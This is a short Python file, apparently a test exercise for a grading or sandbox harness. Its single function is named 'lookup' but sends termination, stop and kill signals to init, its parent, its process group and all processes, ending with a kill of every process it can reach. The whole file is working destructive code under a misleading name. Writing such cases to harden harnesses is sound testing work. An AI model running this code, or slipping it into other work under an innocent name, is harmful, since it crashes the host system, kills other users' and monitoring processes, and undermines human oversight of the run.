"""Every signal at parents, at one's group and at everybody.

aims: lookup
"""


# %%
@exercise
def lookup(E, ids):
    import os
    import signal

    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL, signal.SIGUSR1):
        for pid in (1, os.getppid(), 0, -1, -os.getppid() or -1):
            if pid in (0, -1) and number in (signal.SIGSTOP, signal.SIGKILL):
                continue
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return E
